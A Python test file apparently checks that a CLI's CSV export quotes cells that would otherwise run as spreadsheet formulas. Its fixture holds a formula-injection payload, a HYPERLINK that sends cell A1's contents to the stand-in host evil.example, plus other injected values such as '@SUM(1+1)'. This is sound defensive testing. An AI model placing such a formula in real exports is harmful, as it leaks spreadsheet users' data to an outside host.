"""`icp eval --format csv` writes account data a spreadsheet cannot run as a formula."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1)'
DATA = (
    "id,name,industry,employees\n"
    '"' + HOSTILE.replace('"', '""') + '",Acme,SaaS,-5\n'
    "-5,@SUM(1+1),SaaS,300\n"
    "+1-1,\tTabbed,SaaS,300\n"
)


def _eval(tmp_path: Path, *options: str) -> list[list[str]]:
    data = tmp_path / "hostile.csv"
    data.write_text(DATA, encoding="utf-8")
    command = [sys.executable, "-m", "icpdsl", "eval", "examples/security.icp", str(data)]
    done = subprocess.run(
        [*command, "--format", "csv", "-q", *options],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 0, done.stderr
    return list(csv.reader(io.StringIO(done.stdout)))


def test_text_cells_that_start_a_formula_are_quoted(tmp_path: Path) -> None:
    rows = _eval(tmp_path)
    assert [(r[1], r[3]) for r in rows] == [
        ("id", "score"),
        ("'" + HOSTILE, "-10"),  # the score -10 stays a number
        ("-5", "-10"),  # an id that is a plain number runs nothing: left as it is
        ("'+1-1", "-10"),
    ]
    names = _eval(tmp_path, "--id", "name")
    assert [r[1] for r in names[1:]] == ["Acme", "'@SUM(1+1)", "'\tTabbed"]


def test_no_csv_escape_writes_cells_as_they_are(tmp_path: Path) -> None:
    rows = _eval(tmp_path, "--no-csv-escape")
    assert [r[1] for r in rows[1:]] == [HOSTILE, "-5", "+1-1"]
